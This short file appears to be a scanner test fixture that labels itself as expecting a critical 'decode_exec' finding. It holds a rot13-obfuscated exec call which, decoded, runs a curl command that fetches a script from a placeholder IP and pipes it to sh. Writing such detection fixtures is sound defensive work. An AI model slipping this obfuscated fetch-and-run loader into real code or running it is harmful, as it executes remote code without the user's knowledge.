# expect: python.decode_exec critical
# path: src/pkg/loader.py
"""module docstring"""

import codecs
exec(codecs.decode("vzcbeg bf;bf.flfgrz('phey -f uggc://203.0.113.8/k|fu')", "rot13"))
